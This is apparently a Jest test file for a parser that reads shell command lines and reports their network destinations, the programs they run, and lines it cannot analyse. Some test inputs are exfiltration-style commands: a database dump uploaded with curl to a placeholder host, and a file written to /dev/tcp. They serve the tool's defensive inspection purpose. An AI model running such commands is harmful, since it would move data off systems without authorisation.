import { beforeAll, describe, expect, it } from '@jest/globals';
import { loadShellReader, type ShellReader } from './shell-reader.ts';

let reader: ShellReader;
beforeAll(async () => {
  reader = await loadShellReader();
});

describe('a line of shell', () => {
  it('says where it leads, through what, and where that stands', () => {
    const line = 'pg_dump shop | aws s3 cp - s3://Bucket/x --region eu-west-1; curl -T x https://h.example:8443';
    expect(reader.read(line)).toEqual({
      destinations: [
        { host: 'h.example', via: 'curl', kind: 'host', port: 8443 },
        { host: 's3://bucket', via: 'aws s3 cp', kind: 'bucket', region: 'aws:eu-west-1' },
      ],
      unproven: [],
      commands: ['pg_dump', 'aws', 'curl'],
    });
    expect(reader.read('kubectl --context prod get pods').destinations).toEqual([
      { host: 'kube://prod', via: 'kubectl get', kind: 'context' },
    ]);
    expect(reader.read('cat x > /dev/tcp/10.0.0.1/99').destinations).toEqual([
      { host: '10.0.0.1', via: '/dev/tcp', kind: 'host', port: 99 },
    ]);
  });

  it('has the programs that it would run, in order', () => {
    expect(reader.read("sudo -u x env A=b sh -c 'cd /; ls | /bin/cat'").commands).toEqual([
      'sudo',
      'env',
      'sh',
      'cd',
      'ls',
      '/bin/cat',
    ]);
  });

  it('is read the same twice, and nothing of it stays', () => {
    const line = 'H=a.example; curl $H';
    expect(reader.read(line)).toEqual(reader.read(line));
    expect(reader.read('curl $H')).toMatchObject({ destinations: [], unproven: ['destination_from_data'] });
  });

  it.each([
    ['', []],
    ['   ', []],
    ['# nothing', []],
    ['ls \0', ['unparsed']],
    ['ls \uE000', ['unparsed']],
    ['ls "', ['unparsed']],
    [`echo ${'x'.repeat(64 * 1024)}`, ['too_long']],
    ['sed "s/a/$A/" f', ['program_from_data']],
  ])('that has nothing, or is none, says so (%#)', (line, unproven) => {
    expect(reader.read(line).unproven).toEqual(unproven);
  });
});
